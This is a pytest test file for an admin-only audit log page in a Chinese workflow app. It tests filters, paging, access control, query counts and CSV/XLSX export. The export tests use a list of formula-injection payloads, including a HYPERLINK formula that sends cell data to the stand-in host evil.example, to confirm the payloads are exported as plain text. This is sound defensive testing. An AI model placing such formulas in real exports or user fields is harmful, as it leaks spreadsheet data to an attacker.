"""The audit log page (审计日志): audit rows and workflow transitions in one list, newest first, with
filters, paging and CSV/XLSX export; admins only; a constant number of queries per page."""
from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from fazhi_flow.models import AuditEvent, TransitionLog
from fazhi_flow.services import audit as svc
from fazhi_flow.testing import count_queries

from .conftest import login

T0 = datetime(2025, 3, 1, 2, 0)  # 10:00 Beijing time on 1 March 2025 (stored naive UTC)


def _event(db, actor, action, target, at, **detail):
    row = AuditEvent(actor_id=actor.id if actor else None, action=action, target=target, detail=detail or None,
                     ip="10.1.2.3", created_at=at)
    db.session.add(row)
    return row


def _transition(db, actor, at, contribution=None, cycle=None, event_="submit", from_state="draft",
                to_state="submitted", comment=None):
    row = TransitionLog(contribution_id=contribution.id if contribution else None,
                        cycle_id=cycle.id if cycle else None, event=event_, from_state=from_state,
                        to_state=to_state, actor_id=actor.id, comment=comment, created_at=at)
    db.session.add(row)
    return row


@pytest.fixture()
def trail(office, factory, db):
    """A contribution of 区司法局 and a small trail around it, one row a day from T0."""
    assignment = factory.assignment(office.leaf, office.units[0])
    contribution = factory.contribution(assignment)
    o = office
    _event(db, o.liaison, "contribution.save", f"contribution:{contribution.id}", T0, chars=12)
    _transition(db, o.liaison, T0 + timedelta(days=1), contribution=contribution)
    _event(db, o.reviewer, "contribution.return", f"contribution:{contribution.id}", T0 + timedelta(days=2),
           comment="请补充数据")
    _transition(db, o.reviewer, T0 + timedelta(days=2, seconds=1), contribution=contribution, event_="return",
                from_state="submitted", to_state="returned", comment="请补充数据")
    _event(db, o.admin, "user.update", f"user:{o.liaison.id}", T0 + timedelta(days=3), changed=["email"])
    _transition(db, o.admin, T0 + timedelta(days=4), cycle=o.cycle, event_="open", from_state="setup",
                to_state="collecting")
    _event(db, None, "auth.login_failed", "user:nobody", T0 + timedelta(days=5), reason="unknown_user")
    db.session.commit()
    o.contribution = contribution
    return o


def _body(response):
    assert response.status_code == 200
    return response.get_data(as_text=True)


def _table(html):
    """The rows of the page's table as lists of cell texts (tags dropped)."""
    body = html.split("<tbody>", 1)[1].split("</tbody>", 1)[0] if "<tbody>" in html else ""
    rows = []
    for tr in re.findall(r"<tr>(.*?)</tr>", body, re.S):
        rows.append([re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", td)).strip()
                     for td in re.findall(r"<td>(.*?)</td>", tr, re.S)])
    return rows


def _actions(html):
    return [row[2] for row in _table(html)]


def _login_rows(db):
    db.session.expire_all()
    return [e.id for e in db.session.scalars(select(AuditEvent).where(AuditEvent.action == "auth.login"))]


def test_both_tables_in_one_list_newest_first(admin_client, trail, db):
    html = _body(admin_client.get("/admin/audit?since=2025-03-01&until=2025-03-31"))
    rows = _table(html)
    assert [r[2].split(" ")[0] for r in rows] == [
        "登录失败", "报告流转：开始征集", "修改用户", "材料流转：退回修改", "审核退回", "材料流转：提交审核",
        "保存材料"]
    # Beijing time, who, what changed and which object, in words.
    newest, transition = rows[0], rows[3]
    assert newest[0] == "2025年3月6日 10:00:00" and newest[1] == "—" and "user:nobody" in newest[3]
    assert transition[0] == "2025年3月3日 10:00:01"
    assert transition[1] == "审核人甲（shenhe1）"
    assert f"contribution:{trail.contribution.id}" in transition[3] and "区司法局 · 严格规范执法" in transition[3]
    assert "待审核 → 已退回" in transition[4] and "意见：请补充数据" in transition[4]
    assert "联络员甲（sfj_ll）" in rows[2][3]  # the user an admin changed, by name
    assert "共7条记录" in html
    # A person or an object in a row links to the rows about them (the other filters kept).
    assert f"/admin/audit?since=2025-03-01&amp;until=2025-03-31&amp;target=contribution:{trail.contribution.id}" in html
    assert "/admin/audit?since=2025-03-01&amp;until=2025-03-31&amp;who=shenhe1" in html


@pytest.mark.parametrize("args, expected", [
    ({"who": "sfj_ll"}, ["材料流转：提交审核", "保存材料"]),
    ({"who": "SFJ_LL"}, ["材料流转：提交审核", "保存材料"]),  # a username in any case
    ({"who": "审核人"}, ["材料流转：退回修改", "审核退回"]),  # part of a name
    ({"action": "contribution.return"}, ["审核退回"]),
    ({"action": "flow:contribution:return"}, ["材料流转：退回修改"]),
    ({"action": "flow:cycle:open"}, ["报告流转：开始征集"]),
    ({"target": "CONTRIBUTION:{c}"}, ["材料流转：退回修改", "审核退回", "材料流转：提交审核", "保存材料"]),
    ({"target": "cycle:{cycle}"}, ["报告流转：开始征集"]),
    ({"target": "nobody"}, ["登录失败"]),
    ({"target": "user:"}, ["登录失败", "修改用户"]),
    # Dates are Beijing days: 3 March 10:00 is in "3 March", 4 March 10:00 is not in "until 3 March".
    ({"since": "2025-03-03", "until": "2025-03-04"}, ["修改用户", "材料流转：退回修改", "审核退回"]),
    ({"since": "2025/3/5"}, ["登录失败", "报告流转：开始征集"]),
    ({"until": "2025年3月1日"}, ["保存材料"]),
    ({"who": "审核人", "action": "contribution.return", "target": "contribution:{c}"}, ["审核退回"]),
    ({"who": "nobody-at-all"}, []),
    ({"who": "%"}, []),  # typed text, not a pattern
    ({"target": "_"}, []),
])
def test_filters(admin_client, trail, db, args, expected):
    args = {k: v.format(c=trail.contribution.id, cycle=trail.cycle.id) for k, v in args.items()}
    args.setdefault("until", "2025-03-31")
    html = _body(admin_client.get("/admin/audit", query_string=args))
    assert [a.split(" ")[0] for a in _actions(html)] == expected
    assert "以下显示全部记录" not in html


@pytest.mark.parametrize("args, message", [
    ({"since": "2025-13-01"}, "开始日期“2025-13-01”不是有效日期"),
    ({"until": "昨天"}, "结束日期“昨天”不是有效日期"),
    ({"since": "2025-03-05", "until": "2025-03-01"}, "结束日期早于开始日期"),
    ({"action": "user.explode"}, "未知的操作类型"),
    ({"who": "x" * 61}, "操作人最多60字"),
    ({"target": "t" * 121}, "对象最多120字"),
    ({"page": "二"}, "页码无效"),
    ({"page": "99999999999999999999999"}, "页码无效"),
])
def test_a_bad_filter_shows_a_message_and_everything(admin_client, trail, db, args, message):
    html = _body(admin_client.get("/admin/audit", query_string=args))
    assert message in html
    assert len(_table(html)) == 8  # the seven rows and the admin's own login


def test_paging(admin_client, office, db):
    for n in range(120):
        _event(db, office.reviewer, "contribution.save", f"contribution:{n}", T0 + timedelta(minutes=n), n=n)
    db.session.commit()
    args = {"action": "contribution.save"}
    first = _body(admin_client.get("/admin/audit", query_string=args))
    assert "第1页，共3页" in first and len(_table(first)) == 50
    assert _table(first)[0][3].startswith("contribution:119")
    assert "page=2" in first and "action=contribution.save" in first  # the filter goes with the pages
    last = _body(admin_client.get("/admin/audit", query_string={**args, "page": 3}))
    assert [r[3].split(" ")[0] for r in _table(last)] == [f"contribution:{n}" for n in range(19, -1, -1)]
    beyond = _body(admin_client.get("/admin/audit", query_string={**args, "page": 99}))
    assert "第3页，共3页" in beyond and len(_table(beyond)) == 20


@pytest.mark.parametrize("role", ["liaison", "reviewer", "leader", "unit_head"])
def test_only_admins(client, office, factory, db, role):
    user = factory.user(role, unit=office.units[1], username=f"x_{role}")
    db.session.commit()
    login(client, user)
    for url in ("/admin/audit", "/admin/audit/export.csv", "/admin/audit/export.xlsx"):
        response = client.get(url)
        assert response.status_code == 403, url
        assert "操作记录" not in response.get_data(as_text=True)


def test_anonymous_is_sent_to_login(client, office):
    response = client.get("/admin/audit")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_there_is_no_way_to_change_a_row_over_http(admin_client, trail, db):
    for method in ("post", "put", "patch", "delete"):
        assert getattr(admin_client, method)("/admin/audit").status_code == 405


def test_the_admin_menu_links_the_page(admin_client, office):
    html = _body(admin_client.get("/admin/users"))
    assert 'href="/admin/audit"' in html and "审计日志" in html


# ------------------------------------------------------------------ exports

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A2,"x")', "+1+2", "-3+4", "@SUM(A1)"]


@pytest.fixture()
def hostile(trail, factory, db):
    """Rows whose typed parts start like formulas: people's names (typed by an admin or imported) and a
    reviewer's comment."""
    for n, payload in enumerate(PAYLOADS):
        person = factory.user("liaison", unit=trail.units[0], name=payload)
        _event(db, person, "auth.login_failed", f"user:{person.id}", T0 + timedelta(days=10, minutes=n),
               reason=payload)
    _transition(db, trail.reviewer, T0 + timedelta(days=11), contribution=trail.contribution, event_="approve",
                from_state="submitted", to_state="approved", comment="=1+2")
    db.session.commit()
    return trail


def _expected(db, args):
    """What the export must hold: the service's rows for the same filters, as export cells."""
    return [svc.export_values(r) for r in svc.iter_rows(svc.AuditQuery.from_args(args))]


def test_csv_export(admin_client, hostile, db):
    args = {"since": "2025-03-01", "until": "2025-03-31"}
    response = admin_client.get("/admin/audit/export.csv", query_string=args)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the Chinese
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0] == svc.EXPORT_COLUMNS
    expected = _expected(db, args)
    assert len(rows) - 1 == len(expected) == 12
    for got, want in zip(rows[1:], expected):
        assert got[0] == want[0].strftime("%Y-%m-%d %H:%M:%S")
        assert got[1:] == [svc.csv_safe(v) for v in want[1:]]
    # No cell starts a formula; the typed text is all there behind the quote.
    for line in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in line), line
    names = [line[2] for line in rows[1:]]
    for payload in PAYLOADS:
        assert "'" + payload in names  # shown as typed, behind the quote that keeps it text
    details = [line[8] for line in rows[1:]]
    assert details[0] == "待审核 → 已通过；意见：=1+2"  # only a leading = is a formula
    assert f"原因：{PAYLOADS[3]}" in details


def test_xlsx_export(admin_client, hostile, db):
    args = {"since": "2025-03-01", "until": "2025-03-31", "target": "contribution:{}".format(hostile.contribution.id)}
    response = admin_client.get("/admin/audit/export.xlsx", query_string=args)
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = load_workbook(io.BytesIO(response.data))
    sheet = book["审计日志"]
    values = [[c.value if c.value is not None else "" for c in row] for row in sheet.iter_rows()]
    assert values[0] == svc.EXPORT_COLUMNS
    expected = _expected(db, args)
    assert values[1:] == expected and len(expected) == 5
    assert values[1][8] == "待审核 → 已通过；意见：=1+2"
    # Every string cell is text, never a formula (a formula's value would be its source here too).
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert cells and all(c.data_type == "s" for c in cells)
    assert isinstance(values[1][0], datetime)  # a real date-time, in Beijing time
    assert values[1][0] == datetime(2025, 3, 12, 10, 0)


def test_xlsx_keeps_formula_like_text_as_text(admin_client, hostile, db):
    response = admin_client.get("/admin/audit/export.xlsx", query_string={"action": "auth.login_failed"})
    sheet = load_workbook(io.BytesIO(response.data))["审计日志"]
    names = {c.value: c.data_type for c in next(sheet.iter_cols(min_col=3, max_col=3)) if c.row > 1}
    for payload in PAYLOADS:
        assert names[payload] == "s"  # exactly as typed, and text


def test_export_over_the_limit_is_refused_with_a_message(app, admin_client, trail, db):
    app.config["AUDIT_EXPORT_LIMIT"] = 5
    try:
        response = admin_client.get("/admin/audit/export.xlsx", query_string={"since": "2025-03-01"})
        assert response.status_code == 303
        assert "since=2025-03-01" in response.headers["Location"]
        html = _body(admin_client.get(response.headers["Location"]))
        assert "符合条件的记录有8条，超过一次导出的上限5条" in html
        # Narrowed down, it goes.
        ok = admin_client.get("/admin/audit/export.csv", query_string={"who": "审核人"})
        assert ok.status_code == 200 and ok.data.decode("utf-8-sig").count("\n") == 3
    finally:
        app.config.pop("AUDIT_EXPORT_LIMIT")


def test_export_with_a_bad_filter_exports_nothing(admin_client, trail):
    response = admin_client.get("/admin/audit/export.csv", query_string={"since": "2025-02-30"})
    assert response.status_code == 303
    assert "未导出" in _body(admin_client.get(response.headers["Location"]))


# ------------------------------------------------------------------ cost


def _fill(db, factory, office, n):
    """``n`` rows, audit rows and transitions alternating, by ever new people on ever new objects (so a
    lazy load per row could not hide behind the identity map)."""
    people, contributions = [], []
    for i in range(max(2, n // 4)):
        people.append(factory.user("reviewer", unit=office.office))
        section = factory.section(office.cycle, f"章节{i}", parent=office.top)
        contributions.append(factory.contribution(factory.assignment(section, office.units[i % 3])))
    for i in range(n):
        at, actor, contribution = T0 + timedelta(minutes=i), people[i % len(people)], contributions[i % len(people)]
        if i % 2:
            _transition(db, actor, at, contribution=contribution)
        elif i % 4:
            _event(db, actor, "user.update", f"user:{people[(i + 1) % len(people)].id}", at, changed=["name"])
        else:
            _event(db, actor, "section.update", f"section:{contribution.section_id}", at)
    db.session.commit()


def _queries(client, db, url):
    db.session.expire_all()  # the test and its requests share a session: start from nothing loaded
    with count_queries(db.engine) as statements:
        response = client.get(url)
    assert response.status_code == 200
    return len(statements), response


@pytest.mark.parametrize("url", ["/admin/audit", "/admin/audit?who=用户", "/admin/audit?page=2"])
def test_queries_do_not_grow_with_the_trail(admin_client, office, factory, db, url):
    _fill(db, factory, office, 20)
    small, response = _queries(admin_client, db, url)
    assert "<tbody>" in response.get_data(as_text=True)
    _fill(db, factory, office, 400)
    large, response = _queries(admin_client, db, url)
    assert len(_table(response.get_data(as_text=True))) == 50
    assert large == small, (small, large)
    assert small <= 16, small
